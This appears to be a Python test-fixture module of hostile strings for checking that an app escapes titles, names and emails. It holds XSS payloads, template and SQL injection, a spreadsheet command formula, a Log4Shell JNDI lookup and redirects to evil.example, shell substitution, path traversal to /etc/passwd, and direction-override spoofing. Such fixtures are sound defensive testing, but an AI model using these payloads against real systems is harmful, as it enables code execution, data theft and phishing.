"""Names that break careless programs: markup, templates, control and bidirectional characters."""


# ruff: noqa: RUF001 - look-alike characters are the point

HOSTILE_TITLES = (
    # Markup and script
    "<script>alert('space')</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "<b>bold</b> & <i>italic</i>",
    "</title><h1>escaped the title</h1>",
    "</td></tr></table><h1>escaped the table</h1>",
    "</textarea><script>alert(1)</script>",
    "<!-- comment -->after",
    "<![CDATA[ data ]]>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "<marquee>moving</marquee>",
    "<template><p>hidden</p></template>",
    "<math><mtext></mtext><mglyph><svg></svg></mglyph></math>",
    # Attributes and URLs
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/path",
    "https://evil.example/?a=1&b=2#c",
    # Entities
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "&amp;amp; &nbsp; &#x3C;script&#x3E;",
    "fish & chips",
    # Templates and format strings
    "{{ 7*7 }}",
    "{% raw %}{{ secret }}{% endraw %}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %(name)s %n",
    "{0} {name} {__class__}",
    "$HOME `id` $(id)",
    # Queries, sheets, logs
    "Robert'); DROP TABLE rooms;--",
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(1,1)",
    "${jndi:ldap://evil.example/a}",
    "line one\r\nSet-Cookie: injected=1",
    "first\nsecond\tthird",
    # Control and invisible characters
    "nul:\u0000:nul",
    "bell:\u0007 escape:\u001b[31mred\u001b[0m",
    "\u001b]0;window title\u0007",
    "backspace\u0008\u0008\u0008 delete\u007f next line\u0085",
    "zero\u200bwidth\u200cjoin\u200der\ufeff",
    "\u2028line separator\u2029paragraph separator",
    "soft\u00adhyphen",
    "",
    " ",
    "\u3000\u00a0\u2003",
    # Direction
    "\u202egnp.exe\u202c",
    "\u2066isolate\u2069 \u2067right\u2069 \u2068first\u2069",
    "\u200fright-to-left mark\u200e",
    "unclosed \u202a\u202b\u202d\u202e override",
    "שלום עולם (shalom) 123",
    "مرحبا بالعالم <b>١٢٣</b>",
    # Looks
    "Z̸̢̛̪͓͍̰̺̥̘̀̓͂̓̏a̵̧̛̹̬͙̦͗̒̉̽̕l̷̨̡̢̮̗̫̈́͆̽̍̇͜g̶̢̧̛͓̮̻̙̈́̑̆̊̚o̵̢̻̤̰̐̿̍͐͆͝",
    "a" + "\u0301" * 200,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 👍🏽 emoji",
    "ﷺﷺﷺﷺﷺ",
    "раураӏ.example (Cyrillic)",
    "ＦＵＬＬ　ＷＩＤＴＨ",
    "𝓕𝓪𝓷𝓬𝔂 𝕥𝕖𝕩𝕥 🅱",
    "İıŞşßẞﬁ case folding",
    "田中さんにあげて下さい",
    "\U000e0001\U000e0041 tag characters",
    "\ufffd\ufffe\uffff not characters",
    "quotes \"'`´‘’“”«»",
    "back\\slash \\u003cscript\\u003e \\x3c",
    "null", "undefined", "None", "true", "0", "NaN",
    "../../etc/passwd",
    "..%2f..%2f%00",
    'CON.txt|NUL<>:"?*',
    "L" + "o" * 2_000 + "ng",
    "word " * 400,
)  # fmt: skip

HOSTILE_DISPLAY_NAME = (
    "<script>alert('name')</script> {{ 7*7 }} \u202e\"O'Brien\" & Ünïcode\u0301\u0301 👩‍👩‍👧‍👦"
)
HOSTILE_EMAIL = 'o\'brien+"<b>{{7*7}}</b>"&x=%s@acme.example'
